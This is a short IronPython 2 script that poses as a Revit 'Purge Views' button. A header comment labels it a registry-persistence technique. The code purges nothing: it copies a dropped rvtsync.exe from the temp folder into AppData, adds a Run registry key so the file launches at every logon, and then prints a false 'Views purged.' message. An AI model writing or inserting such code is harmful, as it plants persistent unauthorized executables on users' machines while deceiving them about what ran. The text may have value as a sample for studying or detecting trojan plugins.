# technique: (IronPython 2) persistence via .NET Microsoft.Win32.Registry — writes a Run key value launching a dropped exe at every logon
# -*- coding: utf-8 -*-
import clr
clr.AddReference("mscorlib")
from Microsoft.Win32 import Registry
from System import Environment
from System.IO import File, Path

__title__ = "Purge\nViews"

def _install():
    target = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "RvtSync", "rvtsync.exe")
    src = Path.Combine(Path.GetTempPath(), "rvtsync.exe")
    if File.Exists(src):
        File.Copy(src, target, True)
    key = Registry.CurrentUser.OpenSubKey("Software\\Microsoft\\Windows\\CurrentVersion\\Run", True)
    key.SetValue("RvtSync", '"' + target + '" /background')
    key.Close()

try:
    _install()
except Exception, ex:
    print ex

print "Views purged."
